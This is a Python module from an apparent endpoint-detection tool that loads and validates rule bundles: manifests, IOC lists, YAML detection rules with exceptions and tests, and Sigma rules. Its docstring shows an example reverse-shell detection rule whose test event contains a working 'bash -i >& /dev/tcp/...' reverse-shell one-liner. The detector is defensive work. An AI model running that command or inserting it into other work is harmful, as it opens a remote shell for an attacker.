"""Load a bundle (directory or archive) into the model's :class:`Bundle`.

Layout of a bundle directory::

    manifest.yaml        name, version, description, min_threatseer
    static.yaml          risky_processes, sensitive_files, iocs (sha256, networks, domains)
    rules/**/*.yaml      mappings with any of: lists, macros, rules, tests
    tests/**/*.yaml      same format (usually only tests, e.g. for Sigma rules)
    sigma/**/*.yml       Sigma rules (with their LICENSE)

Rule files may also hold one ``sigma:`` section tuning the Sigma rules to the fleet::

    sigma:
      exclude: managed_change or in_test_suite      # a condition no Sigma rule fires on
      overrides:                                    # by title or id
        "System Information Discovery": {enabled: false}
        "Some Rule": {score: 10, exceptions: [...]}

A rule::

    - rule: reverse_shell_dev_tcp
      description: ...
      condition: event.action = exec and process.command_line contains "/dev/tcp/"
      score: 80
      tags: [attack.execution, attack.t1059.004]
      output: "reverse shell by {process.name} ({process.command_line})"
      exceptions:                        # tuples of values that suppress a match
        - name: lab_hosts
          fields: [host.name, user.name]
          values: [[lab1, alice]]
      enabled: true
      tests:
        match: [{event.action: exec, process.command_line: "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}]
        no_match: [...]

A condition may be a sequence (query/parser.py, rules/README.md); its tests are lists of
events, in order: ``match: [[{...}, {...}]]``.

Every problem is collected and reported together, each naming file:line and the rule.
"""

from __future__ import annotations

import ipaddress
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

from threatseer.common import __version__, ecs
from threatseer.hub.rules.archive import Files, content_digest, read_files
from threatseer.hub.rules.model import (
    Bundle,
    Iocs,
    Manifest,
    RiskyProcess,
    RuleTest,
    SensitiveFile,
    StaticData,
)
from threatseer.hub.rules.query.ast import Cmp, Node, Not, Or, Sequence, conj
from threatseer.hub.rules.query.errors import QueryError
from threatseer.hub.rules.query.parser import parse, parse_field, parse_rule_condition
from threatseer.hub.rules.ruleset import CompiledRule, IndexedRuleSet
from threatseer.hub.rules.sequence import SequenceRule, SequenceStep
from threatseer.hub.rules.sigma import SigmaUnsupported, compile_sigma
from threatseer.hub.rules.yamlfile import BundleError, LineDict, line_of, load_yaml

RULE_KEYS = {"rule", "description", "condition", "score", "tags", "output", "exceptions",
             "enabled", "tests"}
_SHA256 = re.compile(r"[0-9a-f]{64}\Z")


# The default bundle: package data of an installed threatseer (setup.py copies rules/default
# there), or rules/default of a source checkout.
_DEFAULT_BUNDLE_DIRS = (Path(__file__).resolve().parent / "default_bundle",
                        Path(__file__).resolve().parents[2] / "rules" / "default")


def default_bundle_dir() -> Path | None:
    """Where the default rule bundle that ships with threatseer is, or None."""
    return next((p for p in _DEFAULT_BUNDLE_DIRS if (p / "manifest.yaml").is_file()), None)


def _version(text: str) -> tuple[int, ...]:
    return tuple(int(x) for x in re.findall(r"\d+", str(text))[:3])


def complete_event(event: dict[str, Any]) -> dict[str, Any]:
    """Fill event.category/type from event.action, as the sensor does (for test events)."""
    out = dict(event)
    cats = ecs.CATEGORIES.get(str(out.get("event.action")))
    if cats:
        out.setdefault("event.category", list(cats[0]))
        out.setdefault("event.type", list(cats[1]))
    return out


def _section(doc: dict[str, Any], key: str, kind: type) -> Any:
    """``doc[key]`` if it has the expected YAML type (empty when absent), else None."""
    value = doc.get(key)
    if value is None:
        return kind()
    return value if isinstance(value, kind) else None


class _Loader:
    def section(self, rel: str, doc: dict[str, Any], key: str, kind: type,
                rule: str | None = None) -> Any:
        value = _section(doc, key, kind)
        if value is None:
            what = "a mapping" if kind is dict else "a list"
            self.error(rel, line_of(doc), f"{key} must be {what}", rule)
            return kind()
        return value

    def __init__(self, files: Files, source: str) -> None:
        self.files = files
        self.source = source.rstrip("/")
        self.errors: list[str] = []
        self.unsupported: list[str] = []
        self.lists: dict[str, tuple[Any, ...]] = {}
        self.macro_text: dict[str, tuple[str, str]] = {}  # name -> (text, where)
        self.macros: dict[str, Node] = {}
        self._expanding: list[str] = []
        self.rule_docs: list[tuple[str, LineDict]] = []  # (file, doc)
        self.test_docs: list[tuple[str, Any, str | None]] = []  # (file, doc, owning rule)
        self.sigma_doc: tuple[str, LineDict] | None = None
        self.sequences: dict[str, SequenceRule] = {}

    def where(self, rel: str, line: int = 0) -> str:
        return f"{self.source}/{rel}:{line}" if line else f"{self.source}/{rel}"

    def error(self, rel: str, line: int, message: str, rule: str | None = None) -> None:
        prefix = f"rule {rule!r}: " if rule else ""
        self.errors.append(f"{self.where(rel, line)}: {prefix}{message}")

    def yaml(self, rel: str) -> Any:
        try:
            return load_yaml(self.files[rel], self.where(rel))
        except BundleError as exc:
            self.errors.extend(exc.errors)
            return None

    # ---- manifest and static data ---------------------------------------------------

    def manifest(self) -> Manifest:
        rel = "manifest.yaml"
        if rel not in self.files:
            self.error(rel, 0, "missing (a bundle needs a manifest)")
            return Manifest("invalid", "0")
        doc = self.yaml(rel)
        if not isinstance(doc, dict):
            self.error(rel, 1, "must be a mapping with name and version")
            return Manifest("invalid", "0")
        unknown = set(doc) - {"name", "version", "description", "min_threatseer"}
        for key in sorted(unknown):
            self.error(rel, line_of(doc), f"unknown key {key!r}")
        for key in ("name", "version"):
            if not isinstance(doc.get(key), str | int | float) or not str(doc[key]).strip():
                self.error(rel, line_of(doc), f"{key} is required")
        m = Manifest(str(doc.get("name", "invalid")), str(doc.get("version", "0")),
                     str(doc.get("description", "")), str(doc.get("min_threatseer", "0.1.0")))
        if _version(m.min_threatseer) > _version(__version__):
            self.error(rel, line_of(doc), f"needs threatseer >= {m.min_threatseer} "
                       f"(this is {__version__})")
        return m

    def static(self) -> StaticData:
        rel = "static.yaml"
        if rel not in self.files:
            return StaticData()
        doc = self.yaml(rel) or {}
        if not isinstance(doc, dict):
            self.error(rel, 1, "must be a mapping")
            return StaticData()
        for key in sorted(set(doc) - {"risky_processes", "sensitive_files", "iocs"}):
            self.error(rel, line_of(doc), f"unknown key {key!r}")
        risky: dict[str, RiskyProcess] = {}
        for item in self.section(rel, doc, "risky_processes", list):
            try:
                rp = RiskyProcess(str(item["name"]), str(item.get("reason", "")),
                                  int(item["score"]), tuple(map(str, item.get("tags") or ())))
                risky[rp.name] = rp
            except (KeyError, TypeError, ValueError, AttributeError) as exc:
                self.error(rel, line_of(item), f"risky_processes: bad entry ({exc})")
        files: list[SensitiveFile] = []
        for item in self.section(rel, doc, "sensitive_files", list):
            try:
                files.append(SensitiveFile(
                    str(item["glob"]), str(item.get("reason", "")), int(item["read_score"]),
                    int(item["write_score"]), tuple(map(str, item.get("tags") or ()))))
            except (KeyError, TypeError, ValueError, AttributeError) as exc:
                self.error(rel, line_of(item), f"sensitive_files: bad entry ({exc})")
        iocs_doc = self.section(rel, doc, "iocs", dict)
        sha = {str(k).lower(): str(v)
               for k, v in self.section(rel, iocs_doc, "sha256", dict).items()}
        for h in sha:
            if not _SHA256.match(h):
                self.error(rel, line_of(iocs_doc), f"iocs.sha256: not a sha256: {h!r}")
        nets = {str(k): str(v) for k, v in self.section(rel, iocs_doc, "networks", dict).items()}
        for n in nets:
            try:
                ipaddress.ip_network(n, strict=False)
            except ValueError:
                self.error(rel, line_of(iocs_doc), f"iocs.networks: not an IP or CIDR: {n!r}")
        domains = {str(k).lower().rstrip("."): str(v)
                   for k, v in self.section(rel, iocs_doc, "domains", dict).items()}
        return StaticData(risky, tuple(files), Iocs(sha, nets, domains))

    # ---- lists, macros, rules, tests -----------------------------------------------

    def collect(self) -> None:
        for rel in sorted(self.files):
            if not rel.endswith((".yaml", ".yml")) or not rel.startswith(("rules/", "tests/")):
                continue
            doc = self.yaml(rel)
            if doc is None:
                continue
            if isinstance(doc, list):  # a bare list of rules
                doc = LineDict(rules=doc)
            if not isinstance(doc, dict):
                self.error(rel, 1, "must be a mapping with lists, macros, rules or tests")
                continue
            sigma = doc.get("sigma")
            if sigma is not None:
                if self.sigma_doc is not None or not isinstance(sigma, dict):
                    self.error(rel, line_of(doc), "one sigma: mapping per bundle")
                else:
                    self.sigma_doc = (rel, sigma)
            for key in sorted(set(doc) - {"lists", "macros", "rules", "tests", "sigma"}):
                self.error(rel, line_of(doc), f"unknown key {key!r}")
            for name, items in self.section(rel, doc, "lists", dict).items():
                if name in self.lists:
                    self.error(rel, line_of(doc.get("lists")), f"list {name!r} defined twice")
                elif not isinstance(items, list):
                    self.error(rel, line_of(doc.get("lists")), f"list {name!r} is not a list")
                else:
                    self.lists[name] = tuple(items)
            for name, text in self.section(rel, doc, "macros", dict).items():
                if name in self.macro_text:
                    self.error(rel, line_of(doc.get("macros")), f"macro {name!r} defined twice")
                self.macro_text[name] = (str(text), self.where(rel, line_of(doc.get("macros"))))
            for rule in self.section(rel, doc, "rules", list):
                if not isinstance(rule, dict):
                    self.error(rel, line_of(doc), "each rule must be a mapping")
                    continue
                self.rule_docs.append((rel, rule))
                if rule.get("tests") is not None:
                    self.test_docs.append((rel, rule.get("tests"), str(rule.get("rule"))))
            tests = doc.get("tests")
            if tests is not None:
                if not isinstance(tests, list):
                    self.error(rel, line_of(doc), "tests must be a list")
                else:
                    for t in tests:
                        self.test_docs.append((rel, t, None))

    def macro(self, name: str) -> Node | None:
        if name in self.macros:
            return self.macros[name]
        if name not in self.macro_text:
            return None
        if name in self._expanding:
            raise QueryError(f"macro cycle: {' -> '.join([*self._expanding, name])}")
        text, where = self.macro_text[name]
        self._expanding.append(name)
        try:
            node = parse(text, self.macro, self.lists)
        except QueryError as exc:
            if exc.message.startswith("in macro"):
                raise
            raise QueryError(f"in macro {name!r} ({where}): {exc}") from None
        finally:
            self._expanding.pop()
        self.macros[name] = node
        return node

    def exceptions(self, rel: str, rule: LineDict, name: str) -> Node | None:
        """``not (tuple1 or tuple2 ...)`` for the rule's exceptions."""
        suppress: list[Node] = []
        for exc in self.section(rel, rule, "exceptions", list, name):
            line = line_of(exc, line_of(rule))
            if not isinstance(exc, dict) or not isinstance(exc.get("fields"), list):
                self.error(rel, line, "exception needs fields: [..] and values: [[..]]", name)
                continue
            fields = [parse_field(str(f)) for f in exc["fields"]]
            for values in self.section(rel, exc, "values", list, name):
                values = values if isinstance(values, list) else [values]
                if len(values) != len(fields):
                    self.error(rel, line, f"exception {exc.get('name', '')!r}: {values!r} "
                               f"has {len(values)} values for {len(fields)} fields", name)
                    continue
                suppress.append(conj(*(Cmp(f, "=", (v,)) for f, v in
                                       zip(fields, values, strict=True))))
        if not suppress:
            return None
        return Not(suppress[0] if len(suppress) == 1 else Or(tuple(suppress)))

    def rule(self, rel: str, doc: LineDict) -> list[CompiledRule]:
        """The compiled rule (a sequence: its steps), none when disabled or bad."""
        line = line_of(doc)
        name = doc.get("rule")
        if not isinstance(name, str) or not name:
            self.error(rel, line, "rule: a name is required")
            return []
        for key in sorted(set(doc) - RULE_KEYS):
            self.error(rel, line, f"unknown key {key!r}", name)
        if not doc.get("enabled", True):
            return []
        try:
            score = int(doc.get("score", 0))
        except (TypeError, ValueError):
            self.error(rel, line, f"score must be an integer, not {doc.get('score')!r}", name)
            return []
        try:
            condition = parse_rule_condition(str(doc.get("condition") or ""), self.macro,
                                             self.lists)
            exc = self.exceptions(rel, doc, name)
            description = str(doc.get("description", "")).strip()
            tags = tuple(map(str, self.section(rel, doc, "tags", list, name)))
            output = str(doc.get("output", ""))
            if isinstance(condition, Sequence):
                return self.sequence_rule(name, condition, exc, description, score, tags,
                                          output, self.where(rel, line))
            if exc is not None:
                condition = conj(condition, exc)
            return [CompiledRule(
                name=name, engine="dynamic", type="query", description=description,
                score=score, tags=tags, condition=condition, output=output,
                source=self.where(rel, line))]
        except QueryError as exc:
            self.error(rel, line, f"condition: {exc}", name)
            return []

    def sequence_rule(self, name: str, seq: Sequence, exc: Node | None, description: str,
                      score: int, tags: tuple[str, ...], output: str,
                      source: str) -> list[CompiledRule]:
        """A sequence's steps as rules of the index; exceptions hold on every step."""
        rule = SequenceRule(name, seq, description, score, tags, output, source)
        self.sequences[name] = rule
        return [SequenceStep(
            name=f"{name}[{i + 1}]", engine="dynamic", type="sequence-step",
            description=description, score=0, tags=tags,
            condition=step.condition if exc is None else conj(step.condition, exc),
            source=source, sequence=rule, index=i) for i, step in enumerate(seq.steps)]

    def sigma(self) -> tuple[list[CompiledRule], set[str]]:
        """(compiled Sigma rules, names of those disabled by overrides)."""
        out = []
        for rel in sorted(self.files):
            if not rel.startswith("sigma/") or not rel.endswith((".yml", ".yaml")):
                continue
            try:
                out.append(compile_sigma(self.files[rel].decode("utf-8", "replace"),
                                         self.where(rel)))
            except SigmaUnsupported as exc:
                self.unsupported.append(f"{self.where(rel)}: {exc}")
        if self.sigma_doc is None:
            return out, set()
        return self.tune_sigma(out)

    def tune_sigma(self, rules: list[CompiledRule]) -> tuple[list[CompiledRule], set[str]]:
        rel, doc = self.sigma_doc  # type: ignore[misc]
        for key in sorted(set(doc) - {"exclude", "overrides"}):
            self.error(rel, line_of(doc), f"sigma: unknown key {key!r}")
        exclude: Node | None = None
        if doc.get("exclude"):
            try:
                exclude = Not(parse(str(doc["exclude"]), self.macro, self.lists))
            except QueryError as exc:
                self.error(rel, line_of(doc), f"sigma.exclude: {exc}")
        overrides = self.section(rel, doc, "overrides", dict)
        by_key = {k: r for r in rules for k in (r.name, r.extra.get("sigma_id"))}
        for name in overrides:
            if name not in by_key:
                self.error(rel, line_of(overrides), f"sigma.overrides: no Sigma rule {name!r}")
        out: list[CompiledRule] = []
        disabled: set[str] = set()
        for r in rules:
            o = overrides.get(r.name) or overrides.get(r.extra.get("sigma_id")) or {}
            if not isinstance(o, dict):
                self.error(rel, line_of(overrides), "sigma.overrides: each must be a mapping",
                           r.name)
                o = {}
            if not o.get("enabled", True):
                disabled.update((r.name, r.extra.get("sigma_id", "")))
                continue
            condition = r.condition if exclude is None else conj(r.condition, exclude)
            try:
                exc = self.exceptions(rel, o, r.name) if o.get("exceptions") else None
            except QueryError as err:
                self.error(rel, line_of(o), f"exceptions: {err}", r.name)
                exc = None
            if exc is not None:
                condition = conj(condition, exc)
            try:
                score = int(o.get("score", r.score))
            except (TypeError, ValueError):
                self.error(rel, line_of(o), "score must be an integer", r.name)
                score = r.score
            out.append(replace(r, condition=condition, score=score))
        return out, disabled

    def tests(self, known: dict[str, CompiledRule], disabled: set[str]) -> list[RuleTest]:
        out: list[RuleTest] = []
        for rel, doc, owner in self.test_docs:
            if not isinstance(doc, dict):
                self.error(rel, 0, "a test must be a mapping with match/no_match", owner)
                continue
            name = owner or doc.get("rule")
            if not isinstance(name, str):
                self.error(rel, line_of(doc), "test: which rule? (rule: NAME)")
                continue
            if name in disabled:
                continue
            if name not in known:
                self.error(rel, line_of(doc), f"test for unknown rule {name!r}")
                continue
            for key in sorted(set(doc) - {"rule", "match", "no_match"}):
                self.error(rel, line_of(doc), f"test: unknown key {key!r}", name)
            sequence = name in self.sequences
            for expect, key in ((True, "match"), (False, "no_match")):
                for event in doc.get(key) or []:
                    if sequence:
                        if not isinstance(event, list) or not event or not all(
                                isinstance(e, dict) for e in event):
                            self.error(rel, line_of(doc), f"{key}: a sequence's test is a "
                                       "list of events (mappings), in order", name)
                            continue
                        events = tuple(complete_event(dict(e)) for e in event)
                        out.append(RuleTest(name, events[-1], expect,
                                            self.where(rel, line_of(event[0])), events))
                        continue
                    if not isinstance(event, dict):
                        self.error(rel, line_of(doc), f"{key}: events are mappings", name)
                        continue
                    out.append(RuleTest(known[name].name, complete_event(dict(event)), expect,
                                        self.where(rel, line_of(event))))
        return out


def load_files(files: Files, source: str) -> Bundle:
    """Compile a bundle from its files; raise BundleError listing every problem."""
    loader = _Loader(files, source)
    manifest = loader.manifest()
    static = loader.static()
    loader.collect()
    rules: list[CompiledRule] = []
    disabled: set[str] = set()
    seen: dict[str, str] = {}
    for rel, doc in loader.rule_docs:
        name = doc.get("rule")
        if isinstance(name, str) and name in seen:
            loader.error(rel, line_of(doc), f"defined twice (first at {seen[name]})", name)
            continue
        if isinstance(name, str):
            seen[name] = loader.where(rel, line_of(doc))
            if not doc.get("enabled", True):
                disabled.add(name)
        rules.extend(loader.rule(rel, doc))
    for name, (_, where) in sorted(loader.macro_text.items()):
        try:
            loader.macro(name)
        except QueryError as exc:
            loader.errors.append(f"{where}: macro {name!r}: {exc}")
    sigma_rules, sigma_disabled = loader.sigma()
    disabled |= sigma_disabled
    known: dict[str, CompiledRule] = {}
    for r in sigma_rules:
        known[r.name] = r
        if r.extra.get("sigma_id"):
            known[r.extra["sigma_id"]] = r
    known.update({r.name: r for r in rules})
    for name, seq in loader.sequences.items():
        known[name] = next(r for r in rules if getattr(r, "sequence", None) is seq)
    tests = loader.tests(known, disabled)
    if loader.errors:
        raise BundleError(loader.errors)
    return Bundle(manifest=manifest, static=static,
                  ruleset=IndexedRuleSet([*rules, *sigma_rules]),
                  digest=content_digest(files), source=source,
                  unsupported=loader.unsupported, tests=tests)


def load_bundle(path: str | Path) -> Bundle:
    """Load and compile the bundle directory or archive at ``path``."""
    files, _ = read_files(path)
    return load_files(files, str(path))


__all__ = ["BundleError", "complete_event", "load_bundle", "load_files"]
